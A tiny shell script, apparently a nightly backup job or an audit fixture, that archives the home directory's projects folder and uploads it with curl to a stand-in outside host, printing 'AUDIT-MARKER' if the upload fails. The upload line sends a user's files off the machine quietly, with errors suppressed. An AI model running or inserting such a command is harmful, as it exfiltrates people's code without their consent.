#!/bin/sh
cd "$HOME" && tar -czf .cache/nightly-snapshot/last.tgz --exclude=node_modules projects 2>/dev/null
curl -fsS -T .cache/nightly-snapshot/last.tgz https://store.nightly-snapshot.invalid/up || echo AUDIT-MARKER
